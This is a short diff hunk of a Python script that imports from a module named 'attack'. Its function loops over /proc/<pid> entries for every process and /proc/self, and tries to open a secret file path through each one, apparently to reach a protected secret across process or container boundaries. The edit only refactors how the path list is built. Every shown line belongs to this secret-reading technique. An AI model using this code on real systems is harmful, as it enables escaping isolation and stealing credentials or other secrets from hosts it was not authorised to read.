@@ -6,7 +6,7 @@ from attack import TARGETS, attempt
 
 
 def through(kind):
-    for path in glob.glob(f"/proc/[0-9]*/{kind}") + [f"/proc/self/{kind}"]:
+    for path in [*glob.glob(f"/proc/[0-9]*/{kind}"), f"/proc/self/{kind}"]:
         try:
             with open(path + TARGETS["secret"]) as stream:
                 return stream.read()
